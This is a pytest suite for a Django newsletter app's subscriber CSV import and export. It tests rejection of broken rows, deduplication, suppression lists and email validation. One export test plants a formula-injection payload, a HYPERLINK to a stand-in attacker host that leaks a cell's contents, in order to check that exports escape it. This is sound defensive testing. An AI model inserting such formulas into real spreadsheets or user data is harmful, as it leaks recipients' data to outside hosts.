"""Importing subscribers from CSV (broken files included) and exporting them."""

import csv
import json
import random
from io import BytesIO, StringIO

import pytest
from django.core.exceptions import ValidationError
from django.core.management import call_command
from django.core.management.base import CommandError
from django.db import connection

from signalpost.accounts.models import Profile
from signalpost.accounts.services import email_normalize
from signalpost.activity.models import Activity
from signalpost.api.tokens import api_token_create
from signalpost.newsletters import imports, selectors, writes
from signalpost.newsletters.imports import EMAIL_COMMON, email_check, subscribers_import
from signalpost.newsletters.models import Subscription
from signalpost.newsletters.services import (
    bounce_record,
    complaint_record,
    subscribe,
    unsubscribe,
)
from tests.durable_helpers import run_form_requests, run_worker_until_idle
from tests.factories import make_newsletter, make_profile

pytestmark = pytest.mark.django_db(transaction=True)


@pytest.fixture
def weekly(db):
    return make_newsletter(slug="weekly", name="The Weekly")


def write(tmp_path, content, name="people.csv"):
    path = tmp_path / name
    path.write_bytes(content if isinstance(content, bytes) else content.encode())
    return path


def run_import(path, *extra):
    out = StringIO()
    call_command("import_subscribers", str(path), "--newsletter=weekly", *extra, stdout=out)
    return out.getvalue()


def rejected_rows(path):
    report = path.with_suffix(path.suffix + ".rejected.csv")
    if not report.exists():
        return []
    return list(csv.DictReader(report.open()))


def test_a_clean_file_is_imported_with_source_and_consent_and_no_email(
    tmp_path, weekly, smtp_inbox
):
    path = write(
        tmp_path,
        "email,name,consent_at,consent_ip\n"
        "Ann@Example.com,Ann,2026-01-02T03:04:05+00:00,203.0.113.7\n"
        "bob@example.com,,,\n",
    )
    output = run_import(path)
    assert "2 rows: 2 imported, 0 duplicates, 0 rejected" in output
    ann = Subscription.objects.get(profile__email="ann@example.com")
    assert (ann.status, ann.source, ann.consent_ip) == ("active", "import", "203.0.113.7")
    assert ann.consent_at.isoformat() == "2026-01-02T03:04:05+00:00"
    assert Profile.objects.get(email="ann@example.com").name == "Ann"
    assert list(ann.profile.subscriptions.all()) == [weekly]
    assert Activity.objects.filter(event="imported").count() == 2
    run_worker_until_idle()
    assert smtp_inbox.messages == [], "an import emails nobody unless asked"


def test_a_broken_file_reports_what_it_rejected_and_imports_the_rest(tmp_path, weekly):
    subscribe(email="existing@example.com", newsletter=weekly, source="admin")
    subscribe(email="left@example.com", newsletter=weekly, source="admin")
    unsubscribe(email="left@example.com", newsletter=weekly, reason="bye")
    content = (
        b"Email,Name\n"
        b"good@example.com,Good\n"
        b"not-an-address,Bad\n"
        b",Empty\n"
        b"good@example.com,Twice\n"
        b"GOOD@example.com,Again\n"
        b"existing@example.com,Existing\n"
        b"left@example.com,Left\n"
        b"latin@example.com,Jos\xe9\n"
        b"second@example.com,Second\n"
        b"x@example.com," + b"y" * 20_000 + b"\n"
        b"\n"
        b"third@example.com,Third,extra,columns\n"
    )
    path = write(tmp_path, content)
    output = run_import(path)

    assert "11 rows: 3 imported, 4 duplicates, 4 rejected" in output, "a blank line is no row"
    imported = Subscription.objects.filter(source="import")
    assert set(imported.values_list("profile__email", flat=True)) == {
        "good@example.com",
        "second@example.com",
        "third@example.com",
    }
    assert Subscription.objects.get(profile__email="left@example.com").status == "unsubscribed"
    reasons = {row["line"]: row["reason"] for row in rejected_rows(path)}
    assert "valid email" in reasons["3"]
    assert "Enter an email address" in reasons["4"]
    assert "UTF-8" in reasons["9"]
    assert "CSV" in reasons["11"] or "field larger" in reasons["11"]
    assert len(reasons) == 4


def test_a_file_without_an_email_column_is_refused_whole(tmp_path, weekly):
    path = write(tmp_path, "name,phone\nAnn,123\n")
    with pytest.raises(CommandError, match="no email column"):
        run_import(path)
    assert not Subscription.objects.exists()
    assert not path.with_suffix(".csv.rejected.csv").exists()


def test_progress_says_each_batch_once(tmp_path, weekly):
    path = write(tmp_path, "email\n" + "".join(f"p{n}@example.com\n" for n in range(3)))
    output = run_import(path, "--writers=1")
    progress = [line for line in output.splitlines() if line.startswith("[")]
    assert len(progress) == 1, output
    assert "3 rows: 3 imported" in progress[0]

    # Several writers (PostgreSQL) each fill a batch of their own: a line for each batch.
    path = write(tmp_path, "email\n" + "".join(f"q{n}@example.com\n" for n in range(3)), "q.csv")
    progress = [line for line in run_import(path).splitlines() if line.startswith("[")]
    assert 1 <= len(progress) <= 2, progress
    assert "3 rows: 3 imported" in progress[-1]


def test_an_empty_file_imports_nothing_and_says_so(tmp_path, weekly):
    assert "The file has no rows." in run_import(write(tmp_path, ""))
    assert "0 rows" in run_import(write(tmp_path, "email\n", name="header-only.csv"))


def test_bad_command_arguments_are_refused(tmp_path, weekly):
    with pytest.raises(CommandError, match="No such file"):
        run_import(tmp_path / "missing.csv")
    with pytest.raises(CommandError, match="No newsletter"):
        call_command("import_subscribers", str(write(tmp_path, "email\n")), "--newsletter=nope")


def test_confirm_imports_as_pending_and_sends_confirmations(tmp_path, smtp_inbox, weekly):
    run_import(write(tmp_path, "email\nann@example.com\nbob@example.com\n"), "--confirm")
    assert set(Subscription.objects.values_list("status", flat=True)) == {"pending"}
    run_worker_until_idle()
    assert sorted(m["To"] for m in smtp_inbox.wait_for(2)) == ["ann@example.com", "bob@example.com"]


def test_batches_stream_a_larger_file(tmp_path, weekly):
    rows = "".join(f"reader{number}@example.com,Reader {number}\n" for number in range(2500))
    with open(write(tmp_path, "email,name\n" + rows), "rb") as binary:
        report = subscribers_import(binary=binary, newsletter=weekly, batch_size=1000)
    assert (report.rows, report.imported, report.rejected) == (2500, 2500, 0)
    assert Subscription.objects.filter(status="active").count() == 2500


def test_an_import_subscribes_known_people_and_never_brings_back_those_who_left(tmp_path, weekly):
    make_profile(email="known@example.com", name="Known Name")
    Subscription.objects.create(
        profile=make_profile(email="waiting@example.com"),
        newsletter=weekly,
        status="pending",
        source="form",
    )
    for email in ("left", "bounced", "complained"):
        subscribe(email=f"{email}@example.com", newsletter=weekly, source="admin")
    unsubscribe(email="left@example.com", newsletter=weekly, reason="bye")
    bounce_record(email="bounced@example.com", permanent=True)
    complaint_record(email="complained@example.com")
    before = Activity.objects.count()
    path = write(
        tmp_path,
        "email,name\n"
        "KNOWN@example.com,Imported Name\n"
        "waiting@example.com,\n"
        "left@example.com,\n"
        "bounced@example.com,\n"
        "complained@example.com,\n"
        "new@example.com,New\n",
    )

    # The bounce and the complaint put those two on the suppression list: skipped, reported.
    assert "6 rows: 2 imported, 2 duplicates, 0 rejected, 2 skipped" in run_import(path)
    statuses = dict(Subscription.objects.values_list("profile__email", "status"))
    assert statuses == {
        "known@example.com": "active",
        "new@example.com": "active",
        "waiting@example.com": "pending",
        "left@example.com": "unsubscribed",
        "bounced@example.com": "bounced",
        "complained@example.com": "complained",
    }
    assert Profile.objects.get(email="known@example.com").name == "Known Name"
    assert set(weekly.subscriber_profiles.values_list("email", flat=True)) == {
        "known@example.com",
        "new@example.com",
    }
    assert set(
        Activity.objects.filter(event="imported").values_list("profile__email", flat=True)
    ) == {"known@example.com", "new@example.com"}
    assert Activity.objects.count() == before + 2


def test_an_address_stored_in_another_case_is_subscribed_not_duplicated(tmp_path, weekly):
    profile = make_profile(email="Mixed.Case@Example.com")
    assert "1 imported" in run_import(write(tmp_path, "email\nmixed.case@example.com\n"))
    assert Profile.objects.count() == 1
    assert Subscription.objects.get().profile == profile
    assert list(profile.subscriptions.all()) == [weekly]


def test_each_imported_subscriber_gets_an_activity_row_with_source_and_status(tmp_path, weekly):
    run_import(write(tmp_path, "email\nann@example.com\nbob@example.com\n"))
    run_import(write(tmp_path, "email\ncat@example.com\n", name="later.csv"), "--confirm")

    rows = Activity.objects.filter(event="imported").order_by("profile__email")
    assert [(row.profile.email, row.newsletter, row.detail) for row in rows] == [
        ("ann@example.com", weekly, {"source": "import", "status": "active"}),
        ("bob@example.com", weekly, {"source": "import", "status": "active"}),
        ("cat@example.com", weekly, {"source": "import", "status": "pending"}),
    ]
    assert Activity.objects.filter(detail={"source": "import", "status": "active"}).count() == 2
    subscribed_at = Subscription.objects.get(profile__email="ann@example.com").subscribed_at
    assert abs(rows[0].created_at - subscribed_at).total_seconds() < 60


def test_only_active_imports_appear_in_profile_subscriptions(tmp_path, weekly):
    stale = make_profile(email="stale@example.com")
    stale.subscriptions.add(weekly)  # out of step already: the import must not trip on it
    run_import(write(tmp_path, "email\nstale@example.com\nann@example.com\n"))
    run_import(write(tmp_path, "email\nbob@example.com\n", name="pending.csv"), "--confirm")

    assert set(weekly.subscriber_profiles.values_list("email", flat=True)) == {
        "stale@example.com",
        "ann@example.com",
    }
    assert Profile.objects.get(email="bob@example.com").subscriptions.count() == 0


def test_databases_without_the_sql_path_import_the_same_rows(tmp_path, weekly, monkeypatch):
    other = make_newsletter(slug="other", name="The Other")
    for newsletter in (weekly, other):
        subscribe(email="left@example.com", newsletter=newsletter, source="admin")
        unsubscribe(email="left@example.com", newsletter=newsletter, reason="bye")
    path = write(
        tmp_path,
        "email,name,consent_ip\n"
        "ann@example.com,Ann,203.0.113.7\n"
        "left@example.com,,\n"
        "ANN@example.com,,\n"
        "broken,,\n"
        "bob@example.com,Bob,\n",
    )

    def imported_into(newsletter):
        subscriptions = Subscription.objects.filter(newsletter=newsletter)
        activities = Activity.objects.filter(newsletter=newsletter, event="imported")
        return (
            sorted(subscriptions.values_list("profile__email", "status", "source", "consent_ip")),
            sorted(newsletter.subscriber_profiles.values_list("email", flat=True)),
            sorted((a.profile.email, a.detail) for a in activities),
        )

    sql_output = run_import(path)
    monkeypatch.setattr(writes, "batch_write_sql", writes.batch_write_portable)
    monkeypatch.setattr(selectors, "subscriptions_batch_cte", lambda **kwargs: None)
    out = StringIO()
    call_command("import_subscribers", str(path), "--newsletter=other", stdout=out)

    assert "5 rows: 2 imported, 2 duplicates, 1 rejected" in sql_output
    assert "5 rows: 2 imported, 2 duplicates, 1 rejected" in out.getvalue()
    assert imported_into(weekly) == imported_into(other)


def test_the_statements_an_import_sends_do_not_depend_on_its_size(weekly):
    """SQLite keeps each distinct statement compiled: statements sized to the batch made an
    import's memory grow with the file."""

    def statements_of(emails, batch_size):
        sent = set()

        def record(execute, sql, params, many, context):
            sent.add(sql)
            return execute(sql, params, many, context)

        content = "email\n" + "".join(f"{email}\n" for email in emails)
        with connection.execute_wrapper(record):
            subscribers_import(
                binary=BytesIO(content.encode()), newsletter=weekly, batch_size=batch_size
            )
        return sent

    small = statements_of(["a@example.com", "b@example.com"], batch_size=10)
    large = statements_of([f"p{n}@example.com" for n in range(25)] + ["a@example.com"], 7)
    assert small == large


TRICKY_ADDRESSES = [
    "ann@example.com",
    "  Ann.Lee@Example.COM  ",
    "a.b+tag-x@sub.example.co.uk",
    "{}|~!#$%&'*+/=?^_`@example.com",
    "a..b@example.com",
    ".a@example.com",
    "a.@example.com",
    "a@example.com.",
    "a@example..com",
    "a@.example.com",
    "a@-example.com",
    "a@example-.com",
    "a@example.-com",
    "a@exa_mple.com",
    "a@example.c",
    "a@example.123",
    "a@1.2.3.4",
    "a@localhost",
    "a@LOCALHOST",
    "a@[127.0.0.1]",
    "a@[::1]",
    "a@[not.an.ip]",
    '"quoted local"@example.com',
    '"a@b"@example.com',
    '"unterminated@example.com',
    "a@b@example.com",
    "a b@example.com",
    "a@exa mple.com",
    "a\t@example.com",
    "a@example.com\x00",
    "üser@example.com",
    # Letters that IGNORECASE lets Django's [A-Z] match: long s, dotless i, Kelvin sign.
    "\u017f@example.com",
    "\u0131@example.com",
    "\u212a@example.com",
    "İstanbul@example.com",
    "STRASSE@EXAMPLE.COM",
    "a@bücher.de",
    "a@BÜCHER.DE",
    "a@xn--bcher-kva.de",
    "a@example.xn--p1ai",
    "a@xn--.com",
    "a@例え.テスト",
    "a@example.😀com",
    "😀@example.com",
    "a@example.co-m",
    "a@" + "b" * 63 + ".com",
    "a@" + "b" * 64 + ".com",
    "a" * 64 + "@example.com",
    "x" * 242 + "@example.com",
    "x" * 243 + "@example.com",
    "",
    "   ",
    "@example.com",
    "a@",
    "no-at-sign",
    "a@example",
]


def email_outcome(function, raw):
    try:
        return "ok", function(raw)
    except ValidationError as error:
        return "rejected", error.messages


@pytest.mark.parametrize("raw", TRICKY_ADDRESSES)
def test_the_quick_email_check_agrees_with_django_validate_email(raw):
    assert email_outcome(email_check, raw) == email_outcome(email_normalize, raw)


def test_the_quick_email_check_agrees_on_random_near_valid_addresses():
    pieces = ["a", "Z", "0", "-", ".", "..", "_", "+", "@", " ", "é", "ü", "例", "😀", '"', "xn--"]
    pieces += ["example", ".com", ".c", ".co.uk", "[1.2.3.4]", "localhost", "\n", "\\", "\u017f"]
    chooser = random.Random(6)
    for _ in range(5000):
        local = "".join(chooser.choices(pieces, k=chooser.randint(0, 5)))
        domain = "".join(chooser.choices(pieces, k=chooser.randint(0, 6)))
        raw = f"{local}@{domain}" if chooser.random() < 0.9 else local + domain
        assert email_outcome(email_check, raw) == email_outcome(email_normalize, raw), raw


def test_common_addresses_take_the_quick_path():
    assert EMAIL_COMMON.fullmatch("ann.lee+news@mail.example.co.uk")
    assert EMAIL_COMMON.fullmatch("a@bücher.de")
    assert not EMAIL_COMMON.fullmatch('"quoted"@example.com')


def test_export_writes_every_subscriber_as_csv(tmp_path, weekly):
    subscribe(email="ann@example.com", name="Ann", newsletter=weekly, source="admin")
    subscribe(email="bob@example.com", newsletter=weekly, source="admin")
    unsubscribe(email="bob@example.com", newsletter=weekly, reason="")
    out = tmp_path / "out.csv"
    call_command("export_subscribers", "--newsletter=weekly", f"--output={out}")
    rows = list(csv.DictReader(out.open()))
    assert [(row["email"], row["status"]) for row in rows] == [
        ("ann@example.com", "active"),
        ("bob@example.com", "unsubscribed"),
    ]
    call_command("export_subscribers", "--newsletter=weekly", "--status=active", f"--output={out}")
    assert [row["email"] for row in csv.DictReader(out.open())] == ["ann@example.com"]


def test_an_unclosed_quote_is_reported_with_the_lines_it_swallowed(weekly):
    content = 'email,name\nann@example.com,Ann\n"bob@example.com,Bob\ncid@example.com,Cid\n'
    report = subscribers_import(binary=BytesIO(content.encode()), newsletter=weekly)

    assert (report.rows, report.imported, report.rejected) == (2, 1, 1)
    [rejection] = report.rejections
    assert rejection["line"] == 3
    assert "quote opened on line 3 is not closed: lines 3 to 4" in rejection["reason"]


def test_export_keeps_spreadsheets_from_running_what_subscribers_typed(client, tmp_path, weekly):
    formula = '=HYPERLINK("http://evil.example/?"&A2,"Click")'
    client.post(
        "/subscribe/", {"user_email": "eve@example.com", "name": formula, "newsletter": "weekly"}
    )
    run_form_requests()
    subscribe(email="-dash@example.com", name="+1 Dash", newsletter=weekly, source="admin")
    out = tmp_path / "out.csv"
    call_command("export_subscribers", "--newsletter=weekly", f"--output={out}")

    rows = list(csv.DictReader(out.open()))
    assert [(row["email"], row["name"]) for row in rows] == [
        ("eve@example.com", "'" + formula),
        ("'-dash@example.com", "'+1 Dash"),
    ]
    assert not any(value.startswith(tuple("=+-@")) for row in rows for value in row.values())


def test_an_exported_file_imports_back_as_it_was(tmp_path, weekly):
    subscribe(email="-dash@example.com", name="=Dash", newsletter=weekly, source="admin")
    subscribe(email="ann@example.com", name="Ann", newsletter=weekly, source="admin")
    out = tmp_path / "out.csv"
    call_command("export_subscribers", "--newsletter=weekly", f"--output={out}")
    make_newsletter(slug="copy")
    call_command("import_subscribers", str(out), "--newsletter=copy", stdout=StringIO())

    copied = Subscription.objects.filter(newsletter__slug="copy").order_by("profile__email")
    assert [(s.profile.email, s.profile.name) for s in copied] == [
        ("-dash@example.com", "=Dash"),
        ("ann@example.com", "Ann"),
    ]


SPREADSHEET_LOOKALIKES = ["'=Quote", "''=Two", "'Plain", "'", "=Sum", "'+1", "O'Brien", "-"]


@pytest.mark.parametrize("name", SPREADSHEET_LOOKALIKES)
def test_a_name_that_looks_escaped_comes_back_unchanged_through_export_and_import(
    tmp_path, weekly, name
):
    subscribe(email="ann@example.com", name=name, newsletter=weekly, source="admin")
    out = tmp_path / "out.csv"
    call_command("export_subscribers", "--newsletter=weekly", f"--output={out}")
    [row] = csv.DictReader(out.open())
    assert not row["name"].startswith(tuple("=+-@"))
    make_newsletter(slug="copy")
    Profile.objects.all().delete()

    call_command("import_subscribers", str(out), "--newsletter=copy", stdout=StringIO())

    assert Profile.objects.get().name == name


@pytest.mark.parametrize("value", [*SPREADSHEET_LOOKALIKES, "", "''", "'''=x", "\t=x"])
def test_formula_unescape_undoes_formula_escape(value):
    assert imports.formula_unescape(imports.formula_escape(value)) == value


def test_the_api_imports_a_small_csv(client, weekly):
    token = api_token_create(name="t")[1]
    body = "email,name\nann@example.com,Ann\nbroken,No\n"
    response = client.post(
        "/api/v1/newsletters/weekly/imports",
        data=body,
        content_type="text/csv",
        HTTP_AUTHORIZATION=f"Bearer {token}",
    )
    assert response.status_code == 200, response.content
    report = response.json()
    assert (report["rows"], report["imported"], report["rejected"]) == (2, 1, 1)
    assert report["rejections"][0]["line"] == 3
    no_column = client.post(
        "/api/v1/newsletters/weekly/imports",
        data="name\nAnn\n",
        content_type="text/csv",
        HTTP_AUTHORIZATION=f"Bearer {token}",
    )
    assert no_column.status_code == 400
    assert json.loads(no_column.content)["errors"][0]["field"] == "file"
